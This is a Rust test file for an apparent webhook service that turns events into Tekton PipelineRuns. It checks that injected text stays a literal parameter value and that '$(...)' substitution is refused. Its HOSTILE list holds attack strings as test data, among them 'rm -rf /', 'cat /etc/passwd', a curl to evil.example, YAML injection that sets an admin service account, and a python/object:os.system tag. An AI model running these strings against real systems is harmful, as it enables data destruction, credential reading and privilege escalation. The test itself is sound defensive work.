//! No text of an event changes anything but the value that it stands in.

use std::collections::BTreeMap;

use hooks::{Hook, Ids, Outcome, Seen, check, decide, delivery::RuleRecord};
use serde_json::{Value, json};

/// What people have tried on template engines, shells and parsers.
const HOSTILE: [&str; 40] = [
    "",
    " ",
    "\"",
    "'",
    "\\",
    "\"}, \"serviceAccountName\": \"admin\", \"x\": {\"",
    "a\nserviceAccountName: admin",
    "a\r\n- name: injected\r\n  value: x",
    "\n---\napiVersion: v1\nkind: Secret",
    "{{ .Values.secret }}",
    "{% raw %}",
    "${HOME}",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& curl evil.example",
    "a$IFS",
    "' OR '1'='1",
    "*alias",
    "&anchor x",
    "!!python/object:os.system",
    "!<tag:yaml.org,2002:str> x",
    "<<: *merge",
    "? key",
    "- item",
    "# comment",
    "yes",
    "null",
    "0x1F",
    "1e9",
    "~",
    "body.secret",
    "true || body.x",
    "') || true || ('",
    "\u{0}",
    "\u{7}\u{1b}[31m",
    "\u{202e}txt.exe",
    "\u{feff}bom",
    "\u{2028}line",
    "\u{1F600}",
];

/// What Tekton or the kubelet would replace.
const REPLACED: [&str; 10] = [
    "$(params.token)",
    "$(context.pipelineRun.name)",
    "$(tasks.a.results.b)",
    "$(workspaces.w.path)",
    "$(HOME)",
    "$$(HOME)",
    "a$(",
    "$(params[\"x\"])",
    "$($(x))",
    "$(\n",
];

fn hook() -> Hook {
    let step = json!({"image": "i", "script": "echo $(params.a)"});
    let template = json!({
        "metadata": {"labels": {"team": "blue"}},
        "spec": {
            "pipelineSpec": {"tasks": [{"name": "t", "taskSpec": {"steps": [step]}}]},
            "params": [{"name": "fixed", "value": "1"}, {"name": "a", "value": "default"}],
            "taskRunTemplate": {"podTemplate": {"securityContext": {"runAsNonRoot": true}}},
        },
    });
    let params = json!([
        {"name": "a", "expression": "body.text"},
        {"name": "list", "expression": "[body.text, 'fixed']"},
        {"name": "map", "expression": "{'key': body.text}"},
    ]);
    serde_json::from_value(json!({
        "apiVersion": "hookrun.dev/v1alpha1", "kind": "Hook",
        "metadata": {"name": "shop", "namespace": "blue", "uid": "uid-1", "generation": 1},
        "spec": {"provider": "github", "verification": {"secretRefs": [{"name": "s"}]}, "rules": [
            {"name": "template", "pipelineRun": template, "params": params},
            {"name": "named", "pipelineRef": {"name": "p"}, "params": params},
            {"name": "flow", "flow": {"key": "ART"}, "params": params},
        ]},
    }))
    .unwrap()
}

fn decided(text: &str) -> Vec<RuleRecord> {
    let none = BTreeMap::new();
    let body = json!({"text": text, "secret": "s"});
    let seen = Seen {
        body: &body,
        headers: &none,
        query: &none,
        event: &json!({"type": "push", "branch": text}),
        payload_bytes: 1,
    };
    let ids = Ids {
        key: text,
        delivery: "shop-0123456789",
    };
    decide(&check(&hook()).unwrap(), &seen, &ids)
}

/// The same with every place where the text belongs made empty.
fn rest(record: &RuleRecord) -> Value {
    let mut record = record.clone();
    record.run = None;
    let mut run = json!(record);
    let mut clear = |place: &str| *run.pointer_mut(place).unwrap_or(&mut Value::Null) = Value::Null;
    clear("/pipelineRun/metadata/name");
    clear("/pipelineRun/metadata/annotations/hookrun.dev~1event");
    for params in ["/pipelineRun/spec/params", "/params"] {
        for at in ["0", "1", "2", "3"] {
            clear(&format!("{params}/{at}/value/0"));
            clear(&format!("{params}/{at}/value/key"));
        }
        clear(&format!("{params}/a"));
        clear(&format!("{params}/list/0"));
        clear(&format!("{params}/map/key"));
    }
    // The place of parameter `a` depends on the rule.
    for params in run
        .pointer_mut("/pipelineRun/spec/params")
        .and_then(Value::as_array_mut)
        .into_iter()
        .flatten()
    {
        if params["name"] == "a" {
            params["value"] = Value::Null;
        }
    }
    run
}

#[test]
fn only_the_values_themselves_differ() {
    let plain = decided("plain");
    for text in HOSTILE {
        let records = decided(text);
        for (record, plain) in records.iter().zip(&plain) {
            assert_eq!(
                record.outcome,
                Outcome::Received,
                "{text:?}: {}",
                record.reason
            );
            assert_eq!(rest(record), rest(plain), "{text:?}");
        }
        // And the values are the text, unchanged, after a way through JSON, as the API server gets it.
        let run: Value = serde_json::from_str(&json!(records[0].pipeline_run).to_string()).unwrap();
        let params = run["spec"]["params"].as_array().unwrap();
        let value =
            |name: &str| &params.iter().find(|param| param["name"] == name).unwrap()["value"];
        assert_eq!(params.len(), 4);
        assert_eq!(value("fixed"), "1");
        assert_eq!(value("a"), text);
        assert_eq!(value("list"), &json!([text, "fixed"]));
        assert_eq!(value("map"), &json!({"key": text}));
        assert_eq!(
            records[2].params,
            Some(json!({"a": text, "list": [text, "fixed"], "map": {"key": text}}))
        );
        let event = run["metadata"]["annotations"]["hookrun.dev/event"]
            .as_str()
            .unwrap();
        assert!(
            event.len() < 400 && event.bytes().all(|byte| (b' '..0x7f).contains(&byte)),
            "{event:?}"
        );
        assert!(hooks::name::is_label(records[0].run.as_ref().unwrap()));
    }
}

#[test]
fn what_would_be_replaced_fails_and_names_the_parameter() {
    for text in REPLACED {
        for record in decided(text) {
            assert_eq!(record.outcome, Outcome::Failed, "{text}");
            assert!(
                record.reason.starts_with("parameter `a` holds `$(`"),
                "{}",
                record.reason
            );
            assert_eq!(record.expression.as_deref(), Some("body.text"));
            assert_eq!(record.pipeline_run, None);
            assert_eq!(record.params, None);
        }
    }
}

#[test]
fn it_is_found_in_lists_and_in_keys_and_values_of_maps() {
    for expression in [
        "['x', body.text]",
        "{'k': body.text}",
        "{body.text: 'v'}",
        "'a' + body.text + 'b'",
    ] {
        let mut hook = hook();
        hook.spec.rules.truncate(1);
        hook.spec.rules[0].params.truncate(1);
        hook.spec.rules[0].params[0].expression = expression.to_owned();
        let none = BTreeMap::new();
        let seen = Seen {
            body: &json!({"text": "$(x)"}),
            headers: &none,
            query: &none,
            event: &json!({"type": "push"}),
            payload_bytes: 1,
        };
        let ids = Ids {
            key: "k",
            delivery: "d",
        };
        let records = decide(&check(&hook).unwrap(), &seen, &ids);
        assert_eq!(records[0].outcome, Outcome::Failed, "{expression}");
    }
}
